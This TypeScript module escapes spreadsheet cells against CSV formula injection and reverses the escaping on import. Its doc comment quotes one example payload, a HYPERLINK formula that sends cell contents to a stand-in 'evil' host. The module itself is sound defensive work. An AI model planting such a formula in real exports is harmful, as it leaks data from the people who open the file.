/**
 * CSV formula injection (OWASP "CSV Injection"): Excel and WPS read a cell that starts with
 * `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula, so a resident's
 * comment or an imported community name such as `=HYPERLINK("http://evil/?"&A1,"点击")` would
 * run on the evaluator's machine when the export is opened. A leading apostrophe makes it text.
 *
 * Plain numbers (`-3.5`, `+1e3`) are left alone: they are no formula, and score columns must stay
 * numbers. A cell that already starts with an apostrophe before one of those characters gets a
 * second one, so that `unguardFormula` gives back exactly what was written: exports re-import
 * unchanged.
 *
 * @example guardFormula('=1+1') // → "'=1+1";  guardFormula('-2.5') // → '-2.5'
 */
export function guardFormula(text: string): string {
  return needsGuard(text) ? `'${text}` : text;
}

/**
 * The cell as it was before `guardFormula`: one leading apostrophe dropped where the guard would
 * have put it (for imports of files Manyi wrote).
 *
 * @example unguardFormula("'=1+1") // → '=1+1'
 */
export function unguardFormula(text: string): string {
  return text.startsWith("'") && needsGuard(text.slice(1)) ? text.slice(1) : text;
}

/** Characters that start a formula in a spreadsheet (tab and CR hide one after them). */
const formulaStart = /^['=+\-@\t\r]/;

/** A number a spreadsheet reads as a number, not an expression. */
const plainNumber = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

/** Whether a cell must be guarded: it starts a formula (or is an apostrophe guarding one). */
function needsGuard(text: string): boolean {
  if (!formulaStart.test(text) || plainNumber.test(text)) return false;
  return text.startsWith("'") ? needsGuard(text.slice(1)) : true;
}
